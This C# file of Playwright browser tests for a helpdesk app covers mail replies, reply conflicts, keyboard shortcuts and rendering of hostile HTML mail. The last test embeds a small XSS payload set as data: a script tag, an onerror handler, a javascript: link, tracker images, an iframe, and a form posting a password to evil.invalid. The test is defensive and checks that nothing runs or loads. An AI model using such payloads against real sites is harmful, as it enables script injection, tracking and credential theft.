using System.Text.RegularExpressions;
using HelpdeskMx.Tests.Hosts;
using HelpdeskMx.Tests.Mail;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace HelpdeskMx.Browser;

/// <summary>What an agent does all day, in a real browser against a real desk and a real mail server.</summary>
[Collection(InChromium.Name)]
public sealed class MainJobTests(Chromium chromium) : IAsyncLifetime
{
    private readonly LoopbackSmtpServer smtp = new();
    private RunningDesk desk = null!;
    private IPage page = null!;

    public async Task InitializeAsync()
    {
        desk = await RunningDesk.StartAsync(smtp: $"smtp://127.0.0.1:{smtp.Port}?tls=none");
        page = await chromium.OpenAsync(desk.Anybody.BaseAddress!);
        await SignInAsync(page, "agent");
    }

    public async Task DisposeAsync()
    {
        await page.Context.CloseAsync();
        await desk.DisposeAsync();
        await smtp.DisposeAsync();
    }

    [Fact]
    public async Task A_mail_arrives_live_is_answered_and_seen_to_be_sent()
    {
        await desk.ReceiveAsync(Mail("<live1@x.cz>", "Where is my parcel?", "It should be here."));
        await page.GetByText("Where is my parcel?").First.ClickAsync();
        await Expect(page.Locator("article", new() { HasText = "It should be here." })).ToBeVisibleAsync();

        await page.Keyboard.PressAsync("r");
        await page.Keyboard.TypeAsync("It left us this morning.");
        await page.Keyboard.PressAsync("Control+Enter");
        await Expect(page.Locator("article", new() { HasText = "It left us this morning." }).GetByText("Sent", new() { Exact = true })).ToBeVisibleAsync();
        Assert.Contains("It left us this morning.", Assert.Single(smtp.Messages), StringComparison.Ordinal);

        await desk.ReceiveAsync(Mail("<live2@x.cz>", "Re: Where is my parcel?", "Thank you, it came.", "In-Reply-To: <live1@x.cz>"));
        await Expect(page.Locator("article", new() { HasText = "Thank you, it came." })).ToBeVisibleAsync();
    }

    [Fact]
    public async Task An_answer_that_crossed_another_is_kept_and_its_agent_told()
    {
        var id = (await desk.ReceiveAsync(Mail("<cross@x.cz>", "Crossing", "Hello"))).GetProperty("id").GetString()!;
        await page.GetByText("Crossing").First.ClickAsync();
        await Expect(page.Locator("article", new() { HasText = "Hello" })).ToBeVisibleAsync();
        await page.Keyboard.PressAsync("r");
        await page.Keyboard.TypeAsync("My long answer");
        await page.RouteAsync("**/api/realtime/**", route => route.AbortAsync());
        await desk.ActAsync(id, "reply", new { text = "The admin was faster" }, desk.Admin);
        await page.Keyboard.PressAsync("Control+Enter");

        await Expect(page.GetByText("Demo Admin").First).ToBeVisibleAsync();
        await Expect(page.GetByRole(AriaRole.Textbox, new() { Name = "Your reply" })).ToHaveTextAsync("My long answer");
        await page.GetByRole(AriaRole.Button, new() { NameRegex = new Regex("send anyway", RegexOptions.IgnoreCase) }).ClickAsync();
        await RunningDesk.UntilAsync(() => Task.FromResult(smtp.Messages.Count), n => n == 2);
    }

    [Fact]
    public async Task A_ticket_is_assigned_noted_closed_and_opened_again_by_keys()
    {
        var id = (await desk.ReceiveAsync(Mail("<keys@x.cz>", "Keys only", "Hello"))).GetProperty("id").GetString()!;
        await Expect(page.GetByText("Keys only").First).ToBeVisibleAsync();
        var conversation = page.Locator("article", new() { HasText = "Hello" });
        await RunningDesk.UntilAsync(async () =>
        {
            await page.Keyboard.PressAsync("j"); // there is one ticket, so again is no further
            return await conversation.IsVisibleAsync();
        }, visible => visible);
        await page.Keyboard.PressAsync("Enter");
        await page.Keyboard.PressAsync("n");
        await page.Keyboard.TypeAsync("Known customer");
        await page.Keyboard.PressAsync("Control+Enter");
        await RunningDesk.UntilAsync(() => desk.MessagesAsync(id), m => m.Length == 2 && m[1].GetProperty("direction").GetString() == "note");
        await page.Keyboard.PressAsync("Escape");
        await page.Keyboard.PressAsync("e");
        await RunningDesk.UntilAsync(() => desk.GetAsync($"/api/tickets/{id}"), t => t.GetProperty("state").GetString() == "closed");
        await page.Keyboard.PressAsync("z");
        await RunningDesk.UntilAsync(() => desk.GetAsync($"/api/tickets/{id}"), t => t.GetProperty("state").GetString() != "closed");
        Assert.Empty(smtp.Messages);
    }

    [Fact]
    public async Task Hostile_html_runs_nothing_and_loads_nothing()
    {
        var asked = new List<string>();
        page.Request += (_, request) => asked.Add(request.Url);
        await desk.ReceiveAsync(Mail("<evil@x.cz>", "Hostile", """
            <p>Look</p><script>parent.document.title='owned'</script><img src=x onerror="parent.document.title='owned'">
            <img src="http://tracker.invalid/pixel.png"><a href="javascript:parent.document.title='owned'">click</a>
            <iframe src="http://evil.invalid/"></iframe><style>body{background:url(http://evil.invalid/css)}</style>
            <form action="http://evil.invalid/steal"><input name=password></form><table><tr><td>End</td></tr></table>
            """, "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8"));
        await page.GetByText("Hostile").First.ClickAsync();
        await Expect(page.Locator("article").First).ToBeVisibleAsync();
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);

        Assert.DoesNotContain(asked, url => url.Contains(".invalid", StringComparison.Ordinal));
        Assert.DoesNotContain("owned", await page.TitleAsync(), StringComparison.Ordinal);
    }

    internal static async Task SignInAsync(IPage page, string name, bool hold = false)
    {
        if (!hold) await page.EvaluateAsync("localStorage.setItem('undo-send', 'off')"); // what is sent is there at once
        await page.GetByLabel(new Regex("mail", RegexOptions.IgnoreCase)).FillAsync($"{name}@demo.test");
        await page.GetByLabel(new Regex("^password", RegexOptions.IgnoreCase)).FillAsync("demo-demo");
        await page.Keyboard.PressAsync("Enter");
        await Expect(page.Locator("input[type=password]")).ToHaveCountAsync(0);
    }

    private static string Mail(string id, string subject, string text, string? headers = null) =>
        $"From: Anna <anna@x.cz>\nTo: support@demo.test\nSubject: {subject}\nMessage-ID: {id}\n{(headers is null ? "" : headers + "\n")}\n{text}\n";
}
